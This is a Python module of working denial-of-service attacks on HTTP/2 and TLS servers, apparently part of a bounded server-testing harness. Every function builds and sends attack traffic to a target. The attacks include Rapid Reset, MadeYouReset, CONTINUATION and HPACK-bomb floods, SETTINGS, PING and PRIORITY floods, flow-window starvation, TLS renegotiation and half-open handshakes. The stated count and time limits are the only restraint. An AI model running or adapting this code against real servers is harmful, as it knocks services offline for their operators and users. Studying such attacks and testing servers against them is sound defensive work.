"""The attacks: each is one function that takes a target, and returns what ended it.

All are bounded in count and in time (8 s). Each uses one connection, unless many are the attack.
"""

import socket
import ssl
import subprocess
import time

import frames
from flood import Flood
from frames import (
    CONTINUATION, END_HEADERS, END_STREAM, INITIAL_WINDOW, data, field, frame, headers,
    ping, priority, request, reset, settings, window_update,
)
import contextlib

MANY = 20_000
STEP = 100


def streams(count=MANY, first=1):
    """Batches of stream numbers."""
    for start in range(0, count, STEP):
        yield range(2 * start + first, 2 * (start + STEP) + first, 2)


def over_streams(flood, each, count=MANY, first=1):
    for batch in streams(count, first):
        if not flood.send(b"".join(each(stream) for stream in batch), len(batch)):
            break
    return finish(flood)


def repeated(flood, one, count, step=1000):
    for _ in range(count // step):
        if not flood.send(one * step, step):
            break
    return finish(flood)


def finish(flood):
    flood.settle()
    return flood


def rapid_reset(target):
    """CVE-2023-44487: a request and its RST_STREAM, over and over."""
    block = request(path=target.slow)
    return over_streams(
        Flood(target.plain), lambda n: headers(n, block) + reset(n)
    )


def made_you_reset(target):
    """CVE-2025-8671: requests followed by what makes the server reset them."""
    block = request("POST", target.slow)
    return over_streams(
        Flood(target.plain), lambda n: headers(n, block, END_HEADERS) + window_update(n, 0)
    )


def continuation(target):
    """A field block without an end, of fields that are not kept."""
    flood = Flood(target.plain)
    flood.send(headers(1, request(path=target.path), END_STREAM), 0)
    piece = field("x-a", "b" * 1000)
    return repeated(flood, frame(CONTINUATION, 0, 1, piece), MANY, 100)


def empty_continuation(target):
    flood = Flood(target.plain)
    flood.send(headers(1, request(path=target.path), END_STREAM), 0)
    return repeated(flood, frame(CONTINUATION, 0, 1), 10 * MANY)


def hpack_bomb(target):
    """A field of 4 KB in the table, and 16,000 references to it in each block."""
    flood = Flood(target.plain)
    kept = request(path=target.path) + field("x-bomb", "b" * 3900, 0x40)
    flood.send(headers(1, kept))
    block = request(path=target.path) + b"\xbe" * 16_000
    return over_streams(flood, lambda n: headers(n, block), 200, 3)


def cookie_crumbs(target):
    """CVE-2026-49975: references to a short cookie, which are joined into a long one."""
    flood = Flood(target.plain)
    kept = request(path=target.path) + field("cookie", "a=1", 0x40)
    flood.send(headers(1, kept))
    block = request(path=target.path) + b"\xbe" * 16_000
    return over_streams(flood, lambda n: headers(n, block), 200, 3)


def settings_flood(target):
    """SETTINGS whose acknowledgements are not read."""
    return repeated(Flood(target.plain, read=False), settings(), 20 * MANY)


def long_settings(target):
    """Frames of 2,730 settings, each of which changes every open stream's window."""
    flood = Flood(target.plain, pairs=[(INITIAL_WINDOW, 0)])
    block = request(path=target.waits or target.big)
    flood.send(b"".join(headers(2 * n + 1, block) for n in range(target.streams)), 0)
    changes = settings(*[(INITIAL_WINDOW, n % 2) for n in range(2730)])
    return repeated(flood, changes, 2000, 20)


def ping_flood(target):
    """PING whose answers are not read."""
    return repeated(Flood(target.plain, read=False), ping(), 20 * MANY)


def empty_data(target):
    flood = Flood(target.plain)
    flood.send(headers(1, request("POST", target.upload), END_HEADERS), 0)
    return repeated(flood, data(1, b"", 0), 10 * MANY)


def tiny_data(target):
    flood = Flood(target.plain)
    flood.send(headers(1, request("POST", target.upload), END_HEADERS), 0)
    return repeated(flood, data(1, b"x", 0), 2 * MANY)


def padded_data(target):
    """DATA of nothing but padding: it uses up windows, and makes no progress."""
    flood = Flood(target.plain)
    flood.send(headers(1, request("POST", target.upload), END_HEADERS), 0)
    return repeated(flood, data(1, b"\xff" + bytes(255), frames.PADDED), 5 * MANY, 100)


def empty_headers(target):
    """Empty HEADERS on new streams: each is malformed."""
    return over_streams(Flood(target.plain), lambda n: headers(n, b""))


def zero_window(target):
    """Requests for long bodies that may not be sent: are they made, and kept?"""
    flood = Flood(target.plain, pairs=[(INITIAL_WINDOW, 0)])
    block = request(path=target.big)
    return over_streams(flood, lambda n: headers(n, block))


def window_of_one(target):
    """A window of one octet for each of many responses, opened by one, over and over."""
    flood = Flood(target.plain, pairs=[(INITIAL_WINDOW, 1)])
    block = request(path=target.big)
    flood.send(b"".join(headers(2 * n + 1, block) for n in range(100)), 0)
    one = b"".join(window_update(2 * n + 1, 1) for n in range(100))
    for _ in range(400):
        if not flood.send(one, 100):
            break
    return finish(flood)


def connection_window_of_one(target):
    """Many responses wait for the connection's window, which is opened by one, over and over."""
    flood = Flood(target.plain)
    block = request(path=target.big)
    flood.send(b"".join(headers(2 * n + 1, block) for n in range(target.streams)), 0)
    return repeated(flood, window_update(0, 1), 4000, 1)


def unfinished_bodies(target):
    """Requests whose bodies begin, within the windows, and never end."""
    flood = Flood(target.plain)
    block = request("POST", target.upload)
    for stream in range(1, 4001, 2):
        flood.room(64_000)
        body = data(stream, bytes(16_000), 0) * 4
        if not flood.send(headers(stream, block, END_HEADERS) + body):
            break
    return finish(flood)


def priority_flood(target):
    """PRIORITY on streams that do not exist."""
    flood = Flood(target.plain)
    return over_streams(flood, lambda n: frame(frames.PRIORITY, 0, n, priority()), 10 * MANY)


def priority_updates(target):
    """PRIORITY_UPDATE (RFC 9218) on streams that do not exist."""
    flood = Flood(target.plain)
    return over_streams(
        flood, lambda n: frame(0x10, 0, 0, n.to_bytes(4, "big") + b"u=1"), 10 * MANY
    )


def delayed_heads(target):
    """Requests that wait, each with a field of its own of 15 KB."""
    if not target.waits:
        return None
    block, rest = request(path=target.waits), "v" * 15_000
    return over_streams(
        Flood(target.plain), lambda n: headers(n, block + field("x-own", f"{n}{rest}")), 10_000
    )


def delayed_streams(target):
    """Requests that wait and are alike, as many as are allowed."""
    if not target.waits:
        return None
    block = request(path=target.waits)
    return over_streams(Flood(target.plain), lambda n: headers(n, block), 200_000)


def window_updates(target):
    return repeated(Flood(target.plain), window_update(0, 1), 20 * MANY)


def unknown_frames(target):
    return repeated(Flood(target.plain), frame(0xFF, 0, 0, bytes(8)), 20 * MANY)


def renegotiation(target):
    """TLS 1.2: the client asks for a second handshake."""
    if not target.tls:
        return None
    command = ["openssl", "s_client", "-connect", target.tls, "-tls1_2", "-legacy_renegotiation"]
    run = subprocess.run(command, input="R\n" * 3, capture_output=True, text=True, timeout=10,
                         check=False)
    said = run.stdout + run.stderr
    texts = ("no renegotiation", "unexpected message", "unsafe legacy", "ssl handshake failure")
    for text in texts:
        if text in said.lower():
            return f"refused: {text}"
    return "refused" if "error" in said.lower() else "nothing: it was accepted"


def client_hello():
    """A ClientHello as OpenSSL makes it."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    half = frames.tls_context().wrap_bio(incoming, outgoing, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        half.do_handshake()
    return outgoing.read()


def half_handshakes(target):
    """Connections that send a ClientHello, and then nothing."""
    if not target.tls:
        return None
    hello, sockets = client_hello(), []
    try:
        for _ in range(1000):
            sockets.append(socket.create_connection(frames.split(target.tls), 5))
            sockets[-1].sendall(hello)
        time.sleep(1)
        target.sample()
        return end_of(sockets, 12)
    finally:
        for one in sockets:
            one.close()


def end_of(sockets, seconds):
    """How many of the connections the server ends within the time."""
    end, ended = time.monotonic() + seconds, 0
    for one in sockets:
        try:
            while True:
                one.settimeout(max(0.001, end - time.monotonic()))
                if not one.recv(1 << 16):
                    break
            ended += 1
        except TimeoutError:
            break
        except OSError:
            ended += 1
    took = seconds - max(0.0, end - time.monotonic())
    return f"{ended:,} of {len(sockets):,} closed within {took:.0f} s"


def tiny_records(target):
    """Requests in TLS records of one octet."""
    if not target.tls:
        return None
    raw = socket.create_connection(frames.split(target.tls), 5)
    raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    half = frames.tls_context().wrap_bio(incoming, outgoing, server_hostname="localhost")
    raw.settimeout(5)
    with raw:
        while True:
            try:
                half.do_handshake()
                break
            except ssl.SSLWantReadError:
                raw.sendall(outgoing.read())
                incoming.write(raw.recv(1 << 16))
        for octet in frames.PREFACE + settings() + ping() * 500:
            half.write(bytes([octet]))
        records = outgoing.read()
        raw.sendall(records)
        end = time.monotonic() + 5
        got = 0
        while time.monotonic() < end and got < 500 * 17:
            try:
                incoming.write(raw.recv(1 << 16))
                while piece := half.read(1 << 16):
                    got += len(piece)
            except (ssl.SSLWantReadError, TimeoutError):
                continue
            except OSError:
                return f"closed after {got // 17:,} answers"
        return f"nothing of {len(records) // 23:,} records"


def bad_records(target):
    """Connections to the TLS port that send random bytes."""
    if not target.tls:
        return None
    junk = b"\x16\x03\x01\x40\x00" + bytes(range(256)) * 64
    sockets = []
    for _ in range(500):
        sockets.append(socket.create_connection(frames.split(target.tls), 5))
        sockets[-1].sendall(junk)
    try:
        return end_of(sockets, 12)
    finally:
        for one in sockets:
            one.close()


ATTACKS = {
    "Rapid Reset": rapid_reset,
    "MadeYouReset": made_you_reset,
    "CONTINUATION": continuation,
    "empty CONTINUATION": empty_continuation,
    "HPACK bomb": hpack_bomb,
    "cookie crumbs": cookie_crumbs,
    "empty HEADERS": empty_headers,
    "SETTINGS": settings_flood,
    "long SETTINGS": long_settings,
    "PING": ping_flood,
    "WINDOW_UPDATE": window_updates,
    "unknown frames": unknown_frames,
    "empty DATA": empty_data,
    "tiny DATA": tiny_data,
    "padding alone": padded_data,
    "zero window": zero_window,
    "window of 1": window_of_one,
    "connection's window of 1": connection_window_of_one,
    "unfinished bodies": unfinished_bodies,
    "PRIORITY": priority_flood,
    "PRIORITY_UPDATE": priority_updates,
    "heads of delayed streams": delayed_heads,
    "delayed streams": delayed_streams,
    "TLS renegotiation": renegotiation,
    "half handshakes": half_handshakes,
    "bad records": bad_records,
    "tiny records": tiny_records,
}

